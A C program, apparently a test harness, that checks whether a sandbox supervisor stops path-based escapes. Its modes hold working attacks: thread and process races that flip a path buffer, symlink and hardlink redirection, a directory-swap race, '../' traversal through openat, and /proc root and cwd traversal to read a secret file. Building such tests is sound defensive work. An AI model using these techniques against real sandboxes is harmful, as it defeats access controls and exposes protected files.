/* Path attacks on a sandbox supervisor. Usage: attack MODE ALLOWED_FILE SECRET_FILE WRITABLE_DIR
 * Prints "LEAK: <secret>" when the secret was read, "HELD" otherwise. Run natively, every mode leaks. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *allowed, *secret, *writable;
static char *shared;            /* the path buffer the flipper rewrites */
static atomic_int stop;
static char secret_text[256];

static int try_read(const char *path) {
    int fd = open(path, O_RDONLY);
    if (fd < 0) return 0;
    char buf[256] = {0};
    int n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n > 0 && strstr(buf, "TOP-SECRET")) { strncpy(secret_text, buf, sizeof secret_text - 1); return 1; }
    return 0;
}

static void *flipper(void *arg) {
    (void) arg;
    while (!atomic_load(&stop)) {
        strcpy(shared, allowed);
        strcpy(shared, secret);
    }
    return NULL;
}

static int race_opens(double seconds) {
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    do {
        if (try_read(shared)) return 1;
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while ((now.tv_sec - start.tv_sec) + (now.tv_nsec - start.tv_nsec) / 1e9 < seconds);
    return 0;
}

static void report(int leaked) {
    if (leaked) printf("LEAK: %s", secret_text); else printf("HELD\n");
}

int main(int argc, char **argv) {
    if (argc < 5) return 2;
    const char *mode = argv[1];
    allowed = argv[2]; secret = argv[3]; writable = argv[4];
    char path[4096];
    setvbuf(stdout, NULL, _IONBF, 0);
    if (!strcmp(mode, "thread-flip")) {
        shared = calloc(1, 4096);
        strcpy(shared, allowed);
        pthread_t t;
        pthread_create(&t, NULL, flipper, NULL);
        int leaked = race_opens(1.0);
        atomic_store(&stop, 1);
        pthread_join(t, NULL);
        report(leaked);
    } else if (!strcmp(mode, "shared-flip")) {
        shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
        strcpy(shared, allowed);
        pid_t child = fork();
        if (child == 0) { for (;;) { strcpy(shared, allowed); strcpy(shared, secret); } }
        int leaked = race_opens(1.0);
        kill(child, SIGKILL);
        waitpid(child, NULL, 0);
        report(leaked);
    } else if (!strcmp(mode, "symlink")) {
        snprintf(path, sizeof path, "%s/link", writable);
        unlink(path);
        symlink(secret, path);
        report(try_read(path));
    } else if (!strcmp(mode, "hardlink")) {
        snprintf(path, sizeof path, "%s/hard", writable);
        unlink(path);
        link(secret, path);
        report(try_read(path));
    } else if (!strcmp(mode, "dir-swap")) {
        /* writable/d alternates between a real directory holding a harmless file and a symlink to the
           secret's directory, while the main thread opens writable/d/<secret's name>. */
        char d[4096], real[4096], name[256], secretdir[4096];
        snprintf(d, sizeof d, "%s/d", writable);
        snprintf(real, sizeof real, "%s/real", writable);
        strncpy(secretdir, secret, sizeof secretdir);
        char *slash = strrchr(secretdir, '/');
        strncpy(name, slash + 1, sizeof name);
        *slash = 0;
        mkdir(real, 0777);
        snprintf(path, sizeof path, "%s/%s", real, name);
        FILE *f = fopen(path, "w"); if (f) { fputs("harmless\n", f); fclose(f); }
        pid_t child = fork();
        if (child == 0) {
            char tmp[4096];
            snprintf(tmp, sizeof tmp, "%s/tmp", writable);
            for (;;) {
                unlink(tmp); symlink(secretdir, tmp); rename(tmp, d);
                unlink(tmp); symlink(real, tmp); rename(tmp, d);
            }
        }
        snprintf(path, sizeof path, "%s/%s", d, name);
        shared = path;
        int leaked = race_opens(1.0);
        kill(child, SIGKILL);
        waitpid(child, NULL, 0);
        report(leaked);
    } else if (!strcmp(mode, "dotdot")) {
        /* From a descriptor of the allowed file's directory, walk up to the secret. */
        char dir[4096];
        strncpy(dir, allowed, sizeof dir);
        *strrchr(dir, '/') = 0;
        int dfd = open(dir, O_RDONLY | O_DIRECTORY);
        int leaked = 0;
        if (dfd >= 0) {
            snprintf(path, sizeof path, "../../../../../../../..%s", secret);
            int fd = openat(dfd, path, O_RDONLY);
            if (fd >= 0) {
                char buf[256] = {0};
                if (read(fd, buf, sizeof buf - 1) > 0 && strstr(buf, "TOP-SECRET")) { leaked = 1; strcpy(secret_text, buf); }
            }
        }
        report(leaked);
    } else if (!strcmp(mode, "proc-root")) {
        snprintf(path, sizeof path, "/proc/self/root%s", secret);
        int leaked = try_read(path);
        snprintf(path, sizeof path, "/proc/%d/root%s", getppid(), secret);
        leaked |= try_read(path);
        snprintf(path, sizeof path, "/proc/%d/cwd/../../../../../../..%s", getpid(), secret);
        leaked |= try_read(path);
        report(leaked);
    } else {
        return 2;
    }
    return 0;
}
